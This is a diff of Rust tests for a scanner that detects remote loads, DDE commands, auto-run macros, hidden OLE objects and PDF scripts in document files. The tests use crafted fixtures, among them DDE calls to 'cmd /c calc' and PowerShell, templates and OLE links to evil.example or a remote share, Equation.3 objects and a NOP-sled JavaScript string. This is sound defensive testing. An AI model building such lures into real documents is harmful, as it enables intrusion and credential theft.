@@ -127,6 +127,145 @@ fn what_a_document_loads_when_it_is_opened() {
 }
 
 #[test]
+fn what_a_document_loads_from_a_share() {
+    use Check as C;
+    let relation = |kind: &str, target: &str| {
+        let rels = format!(
+            "<Relationships><Relationship Type=\"http://x/{kind}\" Target=\"{target}\" \
+                TargetMode=\"External\"/></Relationships>"
+        );
+        ooxml(&[("word/_rels/document.xml.rels", rels.as_bytes())])
+    };
+    for (kind, target) in [
+        ("attachedTemplate", "file://203.0.113.9/share/a.dotm"),
+        ("attachedTemplate", "\\\\files.evil.example\\share\\a.dotx"),
+        ("image", "file:///\\\\203.0.113.9\\share\\a.png"),
+        ("image", "\\\\evil.example@80\\a.png"),
+        ("subDocument", "file://203.0.113.9/a.docx"),
+        ("externalLinkPath", "file:///\\\\203.0.113.9\\a.xlsx"),
+        ("oleObject", "https:/\\evil.example/a.docx"),
+    ] {
+        check(&format!("{kind} {target}"), &relation(kind, target), &[C::DocumentRemote]);
+    }
+    for (kind, target, expected) in [
+        ("attachedTemplate", "\\\\server\\templates\\letter.dotx", &[C::DocumentLink][..]),
+        ("attachedTemplate", "file:///\\\\10.1.2.3\\templates\\letter.dotx", &[C::DocumentLink]),
+        ("attachedTemplate", "file:///C:/Users/anna/letter.dotx", &[C::DocumentLink]),
+        ("image", "https://www.example.com/logo.png", &[]),
+        ("image", "file:///\\\\server\\share\\logo.png", &[]),
+        ("image", "file:///C:/Users/anna/logo.png", &[]),
+        ("externalLinkPath", "file:///\\\\files.example.com\\figures\\2026.xlsx", &[]),
+    ] {
+        check(&format!("{kind} {target}"), &relation(kind, target), expected);
+    }
+    let field =
+        |text: &str| ooxml(&[("word/document.xml", format!("<w><w:fldSimple w:instr='{text}'/></w>").as_bytes())]);
+    check("a picture", &field("INCLUDEPICTURE \"\\\\\\\\203.0.113.9\\\\a.png\" \\d"), &[C::DocumentRemote]);
+    check("a picture of the web", &field("INCLUDEPICTURE \"https://www.example.com/a.png\" \\d"), &[]);
+    check("a picture of a server", &field("INCLUDEPICTURE \"\\\\\\\\server\\\\a.png\""), &[]);
+    let rtf = "{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE \"file://203.0.113.9/a.png\"}}}";
+    check("a picture in RTF", rtf.as_bytes(), &[C::DocumentRemote]);
+    let rtf = "{\\rt{\\*\\template \\\\\\\\203.0.113.9\\\\a.dotm}}";
+    check("a template in RTF at a share", rtf.as_bytes(), &[C::DocumentRemote]);
+    let hidden: String = "http://evil.example/a".chars().map(|c| format!("\\u{}?", u32::from(c))).collect();
+    check("a template in numbers", format!("{{\\rtf1{{\\*\\template {hidden}}}}}").as_bytes(), &[C::DocumentRemote]);
+    let rtf = "{\\rtf1{\\*\\template C:\\\\Templates\\\\letter.dot}}";
+    check("a template of this computer", rtf.as_bytes(), &[C::DocumentLink]);
+}
+
+#[test]
+fn workbooks_that_ask_another_program_or_start_macros() {
+    use Check as C;
+    let linked = |service: &str, topic: &str| {
+        let part = format!("<externalLink><ddeLink ddeService=\"{service}\" ddeTopic=\"{topic}\"/></externalLink>");
+        ooxml(&[("xl/externalLinks/externalLink1.xml", part.as_bytes())])
+    };
+    check("a command", &linked("cmd", "/c calc"), &[C::Dde]);
+    check("a shell", &linked("POWERSHELL", "-enc x"), &[C::Dde]);
+    check("Excel with a path", &linked("MSEXCEL", "\\..\\..\\Windows\\System32\\cmd.exe /c calc"), &[C::Dde]);
+    check("prices", &linked("BLP", "M"), &[]);
+    let wide = |text: &str| text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
+    let name = [&[39, 20, 0, 0][..], &wide("Auto_Open")].concat();
+    check("binary", &ooxml(&[("xl/macrosheets/sheet1.bin", b"x"), ("xl/workbook.bin", &name)]), &[C::MacroActs]);
+    check("binary without a start", &ooxml(&[("xl/macrosheets/sheet1.bin", b"x")]), &[C::MacroAutomatic]);
+    check("binary without macros", &ooxml(&[("xl/workbook.bin", b"x")]), &[]);
+}
+
+#[test]
+fn links_of_documents_wherever_they_stand() {
+    use Check as C;
+    let field = "<w:instrText>HYPERLINK \"https://evil.example/\" \\o \"x\"</w:instrText>";
+    let seen = check("a field", &ooxml(&[("word/document.xml", format!("<w>{field}</w>").as_bytes())]), &[]);
+    assert_eq!(seen.links, ["https://evil.example/"]);
+    let seen = check("a place", b"{\\rtf1{\\field{\\*\\fldinst HYPERLINK \\\\l \"top\"}}}", &[]);
+    assert_eq!(seen.links, [""; 0]);
+    let word = [&[0; 32][..], b"\x13HYPERLINK \"https://evil.example/\"\x14x\x15"].concat();
+    assert_eq!(check("Word of old", &compound(&[("/WordDocument", &word)]), &[]).links, ["https://evil.example/"]);
+    let text = |inside: &str| ooxml(&[("content.xml", format!("<d>{inside}</d>").as_bytes())]);
+    let seen = check("OpenDocument", &text("<text:a xlink:href='https://evil.example/'>x</text:a>"), &[]);
+    assert_eq!(seen.links, ["https://evil.example/"]);
+    check("a picture at a share", &text("<draw:image xlink:href='file://203.0.113.9/a.png'/>"), &[C::DocumentRemote]);
+    check("a picture of its own", &text("<draw:image xlink:href='Pictures/a.png'/>"), &[]);
+    check("a question", &text("<c table:formula='of:=DDE(\"cmd\";\"/C calc\";\"a\")'/>"), &[C::Dde]);
+    check("a sum", &text("<c table:formula='of:=SUM([.A1:.A2])'/>"), &[]);
+    let open = pdf_with("/AA<</O<</S/GoToE/F(\\\\\\\\203.0.113.9\\\\a)/D[0/Fit]>>>>");
+    check("a PDF that opens a file at a share", &open, &[C::DocumentRemote]);
+    check("a PDF beside another", &pdf_with("/A<</S/GoToR/F(other.pdf)/D[0/Fit]>>"), &[]);
+}
+
+fn pdf_with(entries: &str) -> Vec<u8> {
+    format!("%PDF-1.7\n1 0 obj<<{entries}>>endobj\n%%EOF").into_bytes()
+}
+
+#[test]
+fn what_an_object_is_linked_with() {
+    use Check as C;
+    let wide = |text: &str| text.encode_utf16().chain([0]).flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
+    let site = |target: &str| {
+        let text = wide(target);
+        let moniker = b"\xe0\xc9\xea\x79\xf9\xba\xce\x11\x8c\x82\x00\xaa\x00\x4b\xa9\x0b";
+        compound(&[("/\u{1}Ole", &[&[1, 0, 0, 2][..], moniker, &(text.len() as u32).to_le_bytes(), &text].concat())])
+    };
+    let file = |target: &str| {
+        let moniker = b"\x03\x03\0\0\0\0\0\0\xc0\0\0\0\0\0\0\x46\0\0";
+        let text = format!("{target}\0");
+        let stream = [&[1, 0, 0, 2][..], moniker, &(text.len() as u32).to_le_bytes(), text.as_bytes()].concat();
+        compound(&[("/\u{1}Ole", &stream)])
+    };
+    check("a site", &site("http://evil.example/a.hta"), &[C::DocumentRemote]);
+    check("a table of SharePoint", &site("https://ours.sharepoint.com/figures.xlsx"), &[C::DocumentLink]);
+    check("a share outside", &file("\\\\203.0.113.9\\a.xlsx"), &[C::DocumentRemote]);
+    check("a file of this computer", &file("C:\\Users\\anna\\figures.xlsx"), &[]);
+    let two = packaged("note.txt", b"MZ");
+    let at = two.windows(11).position(|bytes| bytes == b"C:\\note.txt").expect("the path");
+    let two = [&two[..at], b"C:\\note.exe", &two[at + 11..]].concat();
+    let seen = check("two names", &compound(&[("/_1/\u{1}Ole10Native", &two)]), &[C::DocumentEmbeds]);
+    assert_eq!(seen.members.iter().map(|one| one.name.as_str()).collect::<Vec<_>>(), ["note.txt", "note.exe"]);
+}
+
+#[test]
+fn objects_of_rtf_that_are_hidden() {
+    use Check as C;
+    let head = "01050000020000000b0000004571756174696f6e2e330000000000000000000100000041";
+    let (one, two) = head.split_at(20);
+    for (name, data) in [
+        ("control words", format!("{one}\\foo12 {two}")),
+        ("a group that may be skipped", format!("{one}{{\\*\\foo 4142}}{two}")),
+        ("characters", format!("{one}\\'41{two}")),
+        ("blanks", format!("{one}\r\n\t {two}")),
+        ("a group", format!("{one}{{}}{two}")),
+    ] {
+        let rtf = format!("{{\\rt{{\\object\\objocx{{\\*\\objdata {data}}}}}}}");
+        check(name, rtf.as_bytes(), &[C::RtfExploit, C::DocumentEmbeds]);
+    }
+    let bytes = b"\x01\x05\0\0\x02\0\0\0\x0b\0\0\0Equation.3\0\0\0\0\0\0\0\0\0\x01\0\0\0A";
+    let raw = [b"{\\rtf1{\\*\\objdata \\bin37 ".as_slice(), bytes, b"}}"].concat();
+    check("raw bytes", &raw, &[C::RtfExploit, C::DocumentEmbeds]);
+    check("a class", b"{\\rtf1{\\object{\\*\\objclass Equation.3}}}", &[C::RtfExploit]);
+    check("another class", b"{\\rtf1{\\object{\\*\\objclass Excel.Sheet.12}}}", &[]);
+}
+
+#[test]
 fn fields_that_ask_another_program() {
     use Check as C;
     let document =
@@ -228,7 +367,7 @@ fn what_a_pdf_does() {
     check(
         "an exploit",
         &pdf("1 0 obj<</OpenAction<</S/JavaScript/JS(var s = unescape\\(\"%u9090%u9090\"\\);)>>>>endobj"),
-        &[C::PdfScript, C::PdfExploit],
+        &[C::PdfScript, C::PdfAutomatic, C::PdfExploit],
     );
     let linked = check(
         "links",
@@ -255,6 +394,60 @@ fn what_a_pdf_does() {
     .concat();
     let seen = check("a file", &file, &[C::DocumentEmbeds]);
     assert_eq!(seen.members[0].bytes, b"MZ and more");
+}
+
+#[test]
+fn scripts_of_a_pdf() {
+    use Check as C;
+    let pdf = |inside: &str| format!("%PDF-1.7\n{inside}\n%%EOF").into_bytes();
+    let opened = |script: &str| pdf(&format!("1 0 obj<</OpenAction<</S/JavaScript/JS({script})>>>>endobj"));
+    for script in ["app.launchURL\\(\"https://x.example\"\\)", "this.submitForm\\('http://x'\\)", "eval\\(a\\)"] {
+        check(script, &opened(script), &[C::PdfScript, C::PdfAutomatic]);
+    }
+    for script in ["this.print\\(true\\)", "AFNumber_Format\\(2,0\\)", "this.pageNum++"] {
+        check(script, &opened(script), &[C::PdfScript]);
+    }
+    let far = pdf("1 0 obj<</OpenAction 2 0 R>>endobj 2 0 obj<</S/JavaScript/JS 3 0 R>>endobj 3 0 obj<</Length \
+            3/Filter/ASCIIHexDecode>>stream\n6170702E6C61756E636855524C2861293B>\nendstream endobj");
+    check("in a stream", &far, &[C::PdfScript, C::PdfAutomatic]);
+    check(
+        "a button",
+        &pdf("1 0 obj<</Subtype/Widget/A<</S/JavaScript/JS(this.submitForm\\(\"http://x\"\\))>>>>endobj"),
+        &[C::PdfScript],
+    );
+}
+
+#[test]
+fn files_of_a_pdf_have_their_names() {
+    use Check as C;
+    let pdf = |specification: &str| {
+        format!(
+            "%PDF-1.7\n2 0 obj{specification}endobj\n3 0 obj<</Length 10/Filter/ASCIIHexDecode>>stream\n\
+                4142>\nendstream endobj\n%%EOF"
+        )
+        .into_bytes()
+    };
+    for (specification, expected) in [
+        ("<</Type/Filespec/F(a.js)/UF(a.js)/EF<</F 3 0 R>>>>", &["a.js"][..]),
+        ("<</F<612E6A73>/EF<</F 3 0 R>>>>", &["a.js"]),
+        ("<</UF<FEFF0061002E006A0073>/EF<</UF 3 0 R>>>>", &["a.js"]),
+        ("<</F(note.txt)/UF(a.js)/EF<</F 3 0 R>>>>", &["note.txt", "a.js"]),
+        ("<</F(C:/a/note.txt)/E#46<</F 3 0 R>>>>", &["note.txt"]),
+    ] {
+        let seen = check(specification, &pdf(specification), &[C::DocumentEmbeds]);
+        let mut names: Vec<&str> = seen.members.iter().map(|member| member.name.as_str()).collect();
+        names.sort_unstable();
+        let mut expected = expected.to_vec();
+        expected.sort_unstable();
+        assert_eq!(names, expected);
+        assert!(seen.members.iter().all(|member| member.bytes == b"AB"), "{specification}");
+    }
+    let lost = check("lost", b"%PDF-1.7\n2 0 obj<</F(a.js)/EF<</F 9 0 R>>>>endobj", &[C::DocumentEmbeds]);
+    assert_eq!((lost.members[0].name.as_str(), lost.members[0].bytes.len()), ("a.js", 0));
+    let deep = pdf("<</F(b.zip)/EF<</F 3 0 R>>>>");
+    let update = [deep.as_slice(), b"\n3 0 obj<</Filter/ASCII85Decode>>stream\n5l~>\nendstream endobj\n%%EOF"].concat();
+    let seen = check("an update", &update, &[C::DocumentEmbeds]);
+    assert_eq!(seen.members.iter().map(|member| member.name.as_str()).collect::<Vec<_>>(), ["b.zip", "b.zip"]);
 }
 
 #[test]
